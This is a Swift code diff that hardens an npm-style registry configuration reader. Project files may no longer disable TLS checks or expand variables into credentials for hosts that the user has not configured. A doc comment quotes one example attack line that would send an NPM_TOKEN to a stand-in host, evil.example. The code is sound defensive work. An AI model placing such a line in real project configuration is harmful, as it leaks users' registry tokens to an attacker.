@@ -4,9 +4,10 @@ import Registry
 extension RegistryConfiguration {
     /// Merges layers, the first of which wins, as npm does.
     ///
-    /// A project's file is written by whoever writes the project. It may name variables in a credential only for an
-    /// origin that the user's own layers or the default registry name: otherwise
-    /// `//evil.example/:_authToken=${NPM_TOKEN}` in a pull request would send a token away.
+    /// A project's file is written by whoever writes the project, and a pull request may change it. So it may not weaken
+    /// what the user set up (certificates), and may use variables only for an origin that the user's own layers or the
+    /// default registry name: `//evil.example/:_authToken=${NPM_TOKEN}` would send a token away. What is refused is said
+    /// in `notices`.
     ///
     /// - Parameter variables: what `${NAME}` stands for.
     package init(layers: [ConfigurationLayer], variables: [String: String]) {
@@ -25,10 +26,10 @@ extension RegistryConfiguration {
         if let standard = WebAddress(Endpoints.defaultRegistry) { origins.insert(standard.origin) }
         for layer in layers where layer.kind != .project {
             for entry in layer.entries {
-                let text = entry.key.hasPrefix("//") ? "https:" + entry.key.prefix { $0 != "_" } : entry.value
-                if let address = WebAddress(ConfigurationReader.expand(text, variables).text) {
-                    origins.insert(address.origin)
-                }
+                let key = VariableExpansion(entry.key, variables).text
+                let value = VariableExpansion(entry.value, variables).text
+                let address = CredentialKey(key)?.nerfDart.https ?? UserInfo(splitting: value).address
+                if let origin = WebAddress(address)?.origin { origins.insert(origin) }
             }
         }
         return origins
@@ -41,8 +42,8 @@ struct ConfigurationReader {
     let trusted: Set<WebAddress.Origin>
     private var settings: [String: String] = [:]
     private var scopes: [String: String] = [:]
-    /// By nerf dart (`//host/path/`), the fields of its credential.
-    private var nerfDarts: [String: [String: String]] = [:]
+    private var credentials: [NerfDart: [CredentialKey.Field: String]] = [:]
+    private var embedded: [(address: WebAddress, authorization: Secret)] = []
     private var certificates: [String] = []
     private var notices: [String] = []
 
@@ -52,122 +53,125 @@ struct ConfigurationReader {
     }
 
     mutating func read(_ entry: NPMRC.Entry, from layer: ConfigurationLayer) {
-        let (value, names) = Self.expand(entry.value, variables)
-        if entry.key.hasPrefix("//") {
-            readCredential(entry, value, expanded: names, from: layer)
-        } else if entry.key.hasPrefix("@"), let colon = entry.key.lastIndex(of: ":"), entry.key.hasSuffix(":registry") {
-            let scope = String(entry.key[..<colon].dropFirst())
-            if scopes[scope] == nil { scopes[scope] = value }
-        } else if entry.key == "ca[]" || entry.key == "ca" {
-            if !value.isEmpty, value != "null" { certificates.append(Self.withLineFeeds(value)) }
-        } else if entry.key.hasPrefix("_") || entry.key == "username" {
-            notices.append("\(layer.name): `\(entry.key)` without a registry is not used; write `//host/:\(entry.key)`")
-        } else if settings[entry.key] == nil {
-            settings[entry.key] = value
+        let key = VariableExpansion(entry.key, variables)
+        let value = VariableExpansion(entry.value, variables)
+        let place = entry.line == 0 ? layer.name : "\(layer.name): line \(entry.line)"
+        if layer.kind == .project, let reason = refusal(of: key, value) {
+            notices.append("\(place): \(reason)")
+            return
+        }
+        if key.text.hasPrefix("//") {
+            readCredential(key.text, value, place)
+        } else if key.text.hasPrefix("@"), key.text.hasSuffix(":registry") {
+            let scope = String(key.text.dropFirst().dropLast(":registry".count))
+            if scopes[scope] == nil { scopes[scope] = withoutUserInfo(value.text) }
+        } else if key.text == "ca" || key.text == "ca[]" {
+            if Self.isSet(value.text) { certificates.append(Self.withLineFeeds(value.text)) }
+        } else if ["_auth", "_authToken", "_password", "username"].contains(key.text) {
+            notices.append("\(place): `\(key.text)` without a registry is not used; write `//host/:\(key.text)`")
+        } else if settings[key.text] == nil {
+            settings[key.text] = key.text == "registry" ? withoutUserInfo(value.text) : value.text
         }
     }
 
-    private mutating func readCredential(
-        _ entry: NPMRC.Entry, _ value: String, expanded names: Bool, from layer: ConfigurationLayer
-    ) {
-        guard let colon = entry.key.lastIndex(of: ":"), let address = WebAddress("https:" + entry.key[..<colon]) else {
-            notices.append("\(layer.name): line \(entry.line) names no registry and is not used")
-            return
+    /// Why an entry of a project's file is not used; nil for what it may say.
+    private func refusal(of key: VariableExpansion, _ value: VariableExpansion) -> String? {
+        switch key.text {
+        case "strict-ssl" where value.text == "false", "ca", "ca[]", "cafile":
+            return "`\(key.text)` decides whom to trust, which a project's file may not; set it in your own"
+        default: break
         }
-        let field = String(entry.key[entry.key.index(after: colon)...])
-        guard ["_authToken", "_auth", "username", "_password"].contains(field) else { return }
-        if layer.kind == .project, names,
-            !trusted.contains(where: { $0.host == address.origin.host && $0.port == address.origin.port })
-        {
-            notices.append(
-                "\(layer.name): line \(entry.line) would send a variable to `\(address.origin.host)`, "
-                    + "which your own configuration does not name; refused")
-            return
+        guard key.usesVariables || value.usesVariables else { return nil }
+        let address = CredentialKey(key.text)?.nerfDart.https ?? UserInfo(splitting: value.text).address
+        guard let origin = WebAddress(address)?.origin else {
+            // No address, so that nothing is sent anywhere, or none that could be judged.
+            return key.text.hasPrefix("//") || key.text.hasSuffix("registry") || key.text.hasSuffix("proxy")
+                ? "uses a variable in an address that cannot be read; refused" : nil
         }
-        let dart = String(entry.key[..<colon])
-        if nerfDarts[dart]?[field] == nil { nerfDarts[dart, default: [:]][field] = value }
+        let isTrusted = trusted.contains { $0.host == origin.host && $0.port == origin.port }
+        return isTrusted
+            ? nil : "would send a variable to a host that your own configuration does not name; refused"
     }
 
-    func finish(into configuration: inout RegistryConfiguration) {
+    private mutating func readCredential(_ key: String, _ value: VariableExpansion, _ place: String) {
+        guard let key = CredentialKey(key) else { return }
+        guard WebAddress(key.nerfDart.https) != nil else {
+            notices.append("\(place): names no registry and is not used")
+            return
+        }
+        if let name = value.missing.first {
+            notices.append("\(place): the variable `\(name)` is not set; the credential is not used")
+            return
+        }
+        guard value.text.utf8.allSatisfy({ (0x20...0x7E).contains($0) }) else {
+            notices.append("\(place): the credential has characters that none has; it is not used")
+            return
+        }
+        if credentials[key.nerfDart]?[key.field] == nil {
+            credentials[key.nerfDart, default: [:]][key.field] = value.text
+        }
+    }
+
+    /// An address as it is used; what it has of a user name and a password becomes a credential for it.
+    private mutating func withoutUserInfo(_ text: String) -> String {
+        let parts = UserInfo(splitting: text)
+        if let authorization = parts.authorization, let address = WebAddress(parts.address) {
+            embedded.append((address, authorization))
+        }
+        return parts.address
+    }
+
+    mutating func finish(into configuration: inout RegistryConfiguration) {
         if let registry = settings["registry"] { configuration.registry = registry }
         configuration.scopedRegistries = scopes
         configuration.certificates = certificates
-        if let file = settings["cafile"], !file.isEmpty, file != "null" { configuration.certificateFiles = [file] }
+        if let file = settings["cafile"], Self.isSet(file) { configuration.certificateFiles = [file] }
         configuration.verifiesTLS = settings["strict-ssl"] != "false"
-        configuration.notices = notices
-        if !configuration.verifiesTLS {
-            configuration.notices.append("`strict-ssl` is off: nobody vouches for the servers that are asked")
-        }
         configuration.httpsProxy = proxy("https-proxy", "HTTPS_PROXY", "https_proxy") ?? proxy("proxy")
         configuration.httpProxy = proxy("http-proxy") ?? proxy("proxy", "HTTP_PROXY", "http_proxy")
         let direct = settings["noproxy"] ?? variables["NO_PROXY"] ?? variables["no_proxy"] ?? ""
         configuration.noProxy = direct.split { $0 == "," || $0 == " " }.map { $0.lowercased() }
-        for (dart, fields) in nerfDarts.sorted(by: { precedesBytewise($0.key, $1.key) }) {
+        addCredentials(to: &configuration)
+        if !configuration.verifiesTLS {
+            notices.append("`strict-ssl` is off: nobody vouches for the servers that are asked")
+        }
+        configuration.notices = notices
+    }
+
+    private mutating func addCredentials(to configuration: inout RegistryConfiguration) {
+        // A nerf dart leaves out the scheme: `https`, and `http` too if a registry that is used is at that place.
+        let used = ([configuration.registry] + scopes.values).compactMap(WebAddress.init)
+        for (dart, fields) in credentials.sorted(by: { precedesBytewise($0.key.text, $1.key.text) }) {
             guard let authorization = Self.authorization(fields) else { continue }
-            for address in addresses(dart) { configuration.credentials.add(authorization, for: address) }
+            for address in [dart.https, dart.http].compactMap(WebAddress.init)
+            where address.origin.isSecure || used.contains(where: { $0.origin == address.origin }) {
+                configuration.credentials.add(authorization, for: address)
+                if !address.origin.isSecure, !address.origin.isLoopback {
+                    notices.append("credentials for `\(address.origin)` are not sent: the connection is not secure")
+                }
+            }
         }
+        for (address, authorization) in embedded { configuration.credentials.add(authorization, for: address) }
     }
 
-    /// The scheme that a nerf dart leaves out: `https`, and `http` too if a registry that is used is at that place.
-    private func addresses(_ dart: String) -> [WebAddress] {
-        let used = ([settings["registry"]] + scopes.values.map(Optional.some)).compactMap {
-            $0.flatMap(WebAddress.init)
-        }
-        return ["https:", "http:"].compactMap { WebAddress($0 + dart) }.filter { address in
-            address.origin.isSecure || used.contains { $0.origin == address.origin }
-        }
-    }
-
-    private func proxy(_ setting: String, _ names: String...) -> String? {
+    private func proxy(_ setting: String, _ names: String...) -> Secret? {
         for value in [settings[setting]] + names.map({ variables[$0] }) {
-            if let value, !value.isEmpty, value != "null", value != "false" { return value }
+            if let value, Self.isSet(value), value != "false" { return Secret(value) }
         }
         return nil
     }
 
-    private static func authorization(_ fields: [String: String]) -> Secret? {
-        if let token = fields["_authToken"], !token.isEmpty { return Secret("Bearer \(token)") }
-        if let basic = fields["_auth"], !basic.isEmpty { return Secret("Basic \(basic)") }
-        guard let user = fields["username"], let encoded = fields["_password"], let password = Base64.decode(encoded)
-        else {
-            return nil
-        }
+    private static func authorization(_ fields: [CredentialKey.Field: String]) -> Secret? {
+        if let token = fields[.authToken], !token.isEmpty { return Secret("Bearer \(token)") }
+        if let basic = fields[.auth], !basic.isEmpty { return Secret("Basic \(basic)") }
+        guard let user = fields[.username], let encoded = fields[.password], let password = Base64.decode(encoded)
+        else { return nil }
         return Secret("Basic " + Base64.encode(Array(user.utf8) + [UInt8(ascii: ":")] + password))
     }
 
-    /// Replaces `${NAME}`; an unknown name stays as it is, as in npm. Says whether any was replaced.
-    static func expand(_ text: String, _ variables: [String: String]) -> (text: String, expanded: Bool) {
-        var result = ""
-        var rest = text[...]
-        var expanded = false
-        while let start = rest.range(of: "${"), let end = rest[start.upperBound...].firstIndex(of: "}") {
-            var name = rest[start.upperBound..<end]
-            let isOptional = name.hasSuffix("?")
-            if isOptional { name = name.dropLast() }
-            result += rest[..<start.lowerBound]
-            if let value = variables[String(name)] {
-                result += value
-                expanded = true
-            } else if !isOptional {
-                result += rest[start.lowerBound...end]
-            }
-            rest = rest[rest.index(after: end)...]
-        }
-        return (result + rest, expanded)
-    }
+    private static func isSet(_ value: String) -> Bool { !value.isEmpty && value != "null" }
 
     private static func withLineFeeds(_ text: String) -> String {
         text.split(separator: "\\n", omittingEmptySubsequences: false).joined(separator: "\n")
-    }
-}
-
-extension Substring {
-    fileprivate func range(of pattern: String) -> Range<Index>? {
-        var start = startIndex
-        while start < endIndex {
-            if self[start...].hasPrefix(pattern) { return start..<index(start, offsetBy: pattern.count) }
-            start = index(after: start)
-        }
-        return nil
     }
 }
